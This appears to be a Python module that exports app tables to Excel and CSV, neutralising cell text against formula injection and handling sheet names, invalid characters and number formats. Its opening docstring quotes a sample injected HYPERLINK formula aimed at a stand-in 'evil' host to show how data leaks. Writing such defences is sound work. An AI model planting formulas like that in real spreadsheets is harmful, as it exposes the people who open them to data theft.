"""Spreadsheets the app writes (XLSX, CSV): safe to open, whoever typed the text in them.

**Formula injection.** Incident titles, smelter names and notes are typed by people outside the company
(an allegation's source, a facilitator). A spreadsheet runs a cell that begins with ``=`` as a formula —
``=HYPERLINK("http://evil","click")`` leaks data on a click. Every text cell and column name is passed
through :func:`neutralise` (OWASP, *CSV Injection*).
"""

from __future__ import annotations

import io
import math
import re
from collections.abc import Iterable, Mapping
from datetime import UTC, date, datetime
from decimal import Decimal

import pandas as pd
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

# --- formula injection ----------------------------------------------------------------------------

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """A value safe to put in a spreadsheet cell: a string a spreadsheet would run as a formula gets a
    leading ``'``; anything else comes back unchanged (a number stays a number, ``-3`` included).

    Triggers are OWASP's list (*CSV Injection*): a first character ``=``, ``+``, ``-``, ``@``, tab or
    carriage return. We also neutralise a trigger preceded only by whitespace (``" =1+1"``,
    ``"\\n@SUM(A1)"``): Excel treats such a cell as text, but LibreOffice's and Google Sheets' CSV
    import can trim leading spaces before deciding, and a harmless ``'`` costs nothing. A string that
    is already neutralised is left alone (the leading ``'`` is no trigger), so applying this twice
    changes nothing.
    """
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_TRIGGERS) or value.lstrip().startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with :func:`neutralise` applied to every text cell and every column name.
    Numbers, dates and missing values are untouched."""
    out = df.copy()
    for name in out.columns:
        col = out[name]
        if (pd.api.types.is_object_dtype(col) or pd.api.types.is_string_dtype(col)
                or isinstance(col.dtype, pd.CategoricalDtype)):
            out[name] = col.astype(object).map(neutralise)
    out.columns = [neutralise(c) for c in out.columns]
    return out


# --- spreadsheets ---------------------------------------------------------------------------------

_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
SHEET_NAME_MAX = 31
COLUMN_WIDTH_MAX = 60  # characters; longer text wraps in the cell rather than widening the sheet
_WIDTH_SAMPLE = 2000   # rows looked at to size a column: the portfolio table has up to 5,000


def sheet_names(names: Iterable[str]) -> list[str]:
    """Excel-valid, unique sheet names, in order: ``[]:*?/\\`` removed, no leading or trailing
    apostrophe, at most 31 characters, unique ignoring case (as Excel compares them), never the
    reserved "History"."""
    out: list[str] = []
    taken: set[str] = set()
    for raw in names:
        base = _SHEET_FORBIDDEN.sub("", str(raw)).strip().strip("'").strip() or "Sheet"
        if base.lower() == "history":
            base = "History sheet"
        name, n = base[:SHEET_NAME_MAX], 1
        while name.lower() in taken:
            n += 1
            suffix = f" ({n})"
            name = base[:SHEET_NAME_MAX - len(suffix)].rstrip() + suffix
        taken.add(name.lower())
        out.append(name)
    return out


XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
"""Characters an XLSX (XML 1.0) cannot hold. The text rule (:mod:`remediation.domain.text`) keeps them out of
everything stored since; text stored before it is written with U+FFFD in their place, so that one such
character no longer makes a whole workbook fail to build."""


def xml_safe(value):
    return XML_ILLEGAL.sub("\ufffd", value) if isinstance(value, str) else value


def _cell_ready(value):
    """What openpyxl can store: aware datetimes as naive UTC (Excel has no time zones), containers as text,
    characters XML cannot hold replaced (:func:`xml_safe`)."""
    if isinstance(value, str):
        return xml_safe(value)
    if isinstance(value, (list, tuple, dict, set)):
        return xml_safe(str(value))
    if isinstance(value, datetime) and value.tzinfo is not None:
        return value.astimezone(UTC).replace(tzinfo=None)
    return value


def _excel_ready(df: pd.DataFrame) -> pd.DataFrame:
    out = df.copy()
    for name in out.columns:
        col = out[name]
        if isinstance(col.dtype, pd.DatetimeTZDtype):
            out[name] = col.dt.tz_convert("UTC").dt.tz_localize(None)
        elif pd.api.types.is_object_dtype(col) or pd.api.types.is_string_dtype(col):
            out[name] = col.astype(object).map(_cell_ready)
    out.columns = [xml_safe(str(c)) if isinstance(c, str) else c for c in out.columns]
    return neutralise_frame(out)


def _display_width(value) -> int:
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return 0
    if isinstance(value, datetime):
        return 16
    if isinstance(value, date):
        return 10
    if isinstance(value, (float, Decimal)):
        return len(f"{value:,.2f}")
    return max((len(line) for line in str(value).splitlines()), default=0)


PERCENT_FORMAT = "0%"
MONEY_FORMAT = "#,##0.00"
COUNT_FORMAT = "#,##0"
DATE_FORMAT = "YYYY-MM-DD"
MONEY_HEADERS = ("budget", "pledged", "received", "spent", "gap", "actual cost", "not yet received", "amount")


def number_format(header: str, value, currency: str | None = None) -> str | None:
    """The Excel number format of a cell, from its column's plain-English header and its value.

    A header ending in ``(%)`` holds a share from 0 to 1, shown as a percentage; money (a Decimal, or a
    number under a header naming budget, pledged, received, spent, gap, actual cost…) has two decimals,
    prefixed with the row's currency where the sheet has a Currency column; other numbers are counts;
    dates are ISO dates."""
    if isinstance(value, bool) or value is None:
        return None
    if isinstance(value, (datetime, date, pd.Timestamp)):
        return DATE_FORMAT if not isinstance(value, datetime) or value == value.replace(hour=0, minute=0) \
            else "YYYY-MM-DD HH:MM"
    if not isinstance(value, (int, float, Decimal)):
        return None
    name = str(header).strip().lower()
    if name.endswith("(%)"):
        return PERCENT_FORMAT
    if isinstance(value, Decimal) or any(word in name for word in MONEY_HEADERS):
        return f'"{currency}" {MONEY_FORMAT}' if currency and re.fullmatch(r"[A-Z]{3}", currency) else MONEY_FORMAT
    if isinstance(value, int) or float(value).is_integer():
        return COUNT_FORMAT
    return "#,##0.##"


def tables_to_xlsx(tables: Mapping[str, pd.DataFrame], scope: str | None = None) -> bytes:
    """An Excel workbook, one sheet per table, in order.

    Sheet names are made valid and unique (:func:`sheet_names`); every text cell and header is
    :func:`neutralise`-d; the header row is bold, frozen and filterable; columns are as wide as their
    content (up to 60 characters); every number carries its format (:func:`number_format`: currency,
    percent, count, date). The index is not written: ``reset_index()`` first where it carries data.

    ``scope``: the pack's scope statement, written above every sheet's header (row 1, the header on
    row 2) and in its printed header, the same words as on the PDF."""
    buffer = io.BytesIO()
    top = 1 if scope else 0
    with pd.ExcelWriter(buffer, engine="openpyxl", date_format="YYYY-MM-DD",
                        datetime_format="YYYY-MM-DD HH:MM") as writer:
        for name, df in zip(sheet_names(tables), tables.values()):
            ready = _excel_ready(df)
            ready.to_excel(writer, sheet_name=name, index=False, startrow=top)
            sheet = writer.sheets[name]
            if scope:
                sheet.cell(row=1, column=1, value=neutralise(xml_safe(scope))).font = Font(italic=True)
                sheet.oddHeader.center.text = xml_safe(scope).replace("&", "&&")
            for cell in sheet[top + 1]:
                cell.font = Font(bold=True)
                cell.alignment = Alignment(horizontal="left", vertical="bottom", wrap_text=False)
            currency_column = next((i for i, c in enumerate(ready.columns) if str(c).lower() == "currency"), None)
            for row in sheet.iter_rows(min_row=top + 2, max_col=len(ready.columns)):
                currency = row[currency_column].value if currency_column is not None else None
                for cell, header in zip(row, ready.columns):
                    fmt = number_format(header, cell.value, currency if isinstance(currency, str) else None)
                    if fmt:
                        cell.number_format = fmt
            sample = ready.head(_WIDTH_SAMPLE)
            for i, column in enumerate(ready.columns, start=1):
                widest = max([_display_width(column), *(_display_width(v) for v in sample[column].tolist())])
                sheet.column_dimensions[get_column_letter(i)].width = min(COLUMN_WIDTH_MAX, max(8, widest + 2))
            if len(ready.columns):
                sheet.freeze_panes = f"A{top + 2}"
                sheet.auto_filter.ref = f"A{top + 1}:{get_column_letter(len(ready.columns))}{top + 1 + len(ready)}"
    return buffer.getvalue()


def tables_to_csv(df: pd.DataFrame) -> bytes:
    """One table as CSV: neutralised, UTF-8 with a byte-order mark (without it Excel reads the file as
    the local code page and garbles "Côte d'Ivoire"), dates ISO, no index."""
    return neutralise_frame(df).to_csv(index=False).encode("utf-8-sig")


